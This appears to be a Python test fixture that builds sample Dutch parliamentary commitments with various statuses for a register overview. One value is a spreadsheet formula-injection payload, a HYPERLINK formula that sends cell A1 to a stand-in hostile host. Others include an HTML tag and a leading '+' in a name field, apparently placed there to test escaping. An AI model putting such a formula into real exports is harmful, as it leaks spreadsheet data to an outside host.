"""A small register with every status, long texts, links, and texts that want to be more than text."""

from dataclasses import replace
from datetime import UTC, date, datetime, timedelta

from pipeline.records import Commitment, Letter, LetterKind, StatementKind, Term
from pipeline.register import overview, resolve, review
from pipeline.register.overview import Row
from tests.register.stories import letter, said

ON = date(2024, 8, 13)
K = StatementKind
FORMULA = '=HYPERLINK("http://kwaad.example/?"&A1;"klik")'


def kamerstuk(on: date, number: int, pages: int = 9) -> Letter:
    return letter(on, key=f"kst-19637-{number}", dossier="19637", number=str(number), pages=pages)


def day(text: str) -> date:
    return date.fromisoformat(text)


def until(text: str, last: str, start: str = "2023-01-01") -> Term:
    return Term(text, day(start), day(last), "proef", "dag")


DEBATE = letter(
    day("2023-09-06"), kind=LetterKind.VERSLAG, key="verslag-a", dossier="19637", number="3104"
)
JUNE, JULY = kamerstuk(day("2024-06-14"), 3260), kamerstuk(day("2024-07-05"), 3271)


def commitments() -> list[Commitment]:
    """Return commitments with all sorts of lives; one of them noted and confirmed by a person."""
    told = [
        said(
            "De staatssecretaris informeert de Kamer voor het zomerreces over de wachttijden bij "
            "de keuring van veerboten in de Zeeuwse havens, en gaat daarbij in op de verschillen "
            "tussen de grote en de kleine rederijen en op wat de inspectie daaraan kan doen.",
            in_letter=DEBATE,
            to="lid Aardema (NHD)",
            made_on=DEBATE.date,
            made_at="commissiedebat Veerboten",
            number="TZ202309-011",
            term=until("voor het zomerreces", "2024-07-04"),
            organisations=("ILT",),
            summary="Wachttijden bij de keuring van veerboten",
        ),
        said(
            "De staatssecretaris stuurt eind augustus een overzicht van alle gesloten sluizen.",
            in_letter=DEBATE,
            to="leden Brinkhof (LBP) en De Wilde",
            made_on=DEBATE.date,
            made_at="commissiedebat Veerboten",
            term=until("eind augustus", "2024-08-31"),
            at=9,
        ),
        said(
            "Ik zal uw Kamer nader berichten over de asielopvang in sporthallen.",
            in_letter=kamerstuk(day("2023-11-20"), 3171),
            organisations=("COA",),
            at=2,
        ),
        said(
            "Uw Kamer ontvangt in het voorjaar het onderzoek naar drijvende woningen.",
            in_letter=kamerstuk(day("2023-12-04"), 3180),
            term=until("in het voorjaar", "2024-05-31"),
        ),
        said(
            "Het onderzoek naar drijvende woningen, dat uw Kamer in het voorjaar zou ontvangen, "
            "vraagt meer tijd; u ontvangt het voor het einde van het jaar.",
            K.POSTPONED,
            JUNE,
            made_on=day("2023-12-04"),
            term=until("voor het einde van het jaar", "2024-12-31"),
        ),
        said(
            "Ik heb het lid Ekinci toegezegd de kosten van tolken bij gehoren in kaart te brengen.",
            K.RECALLED,
            JULY,
            to="lid Ekinci",
            made_on=day("2024-02-07"),
            made_at="commissiedebat Asiel",
            heading=("Tolken",),
        ),
        said(
            "Hiermee doe ik deze toezegging gestand.", K.SETTLED, JULY, heading=("Tolken",), at=4
        ),
        said(
            "De toezegging over de vergoeding van leefgeld aan gemeenten is deels nagekomen.",
            K.PARTLY,
            JULY,
            made_on=day("2024-01-15"),
            heading=("Leefgeld",),
            at=90,
        ),
        said(
            "De toezegging over fietsvergoedingen voor tolken in Drenthe vervalt.",
            K.LAPSED,
            JULY,
            made_on=day("2023-05-01"),
            heading=("Fietsen",),
            at=95,
        ),
        said(FORMULA, in_letter=kamerstuk(day("2024-03-03"), 3222), to="+31 lid <b>Hadjar</b>"),
        said(
            "Ik informeer u over het station in Drachten; die termijn stond er al.",
            in_letter=kamerstuk(day("2024-04-04"), 3233),
            term=until("voor 2024", "2023-12-31"),
        ),
    ]
    found = resolve.commitments(told)
    by = review.Reviewer("A. van Dam", datetime(2024, 8, 1, 10, tzinfo=UTC))
    events = [review.note(found[2], "Concept ligt bij de directie Opvang.", by)]
    return resolve.commitments(told, events)


def rows(on: date = ON) -> list[Row]:
    return overview.rows(commitments(), on)


def many(number: int) -> list[Row]:
    """Return as many rows as asked for, all different."""
    known = rows()
    return [
        replace(
            known[place % len(known)],
            id=f"{place:016x}",
            nr=f"KS-{place:08X}",
            datum=date(2022, 1, 1) + timedelta(days=place),
        )
        for place in range(number)
    ]
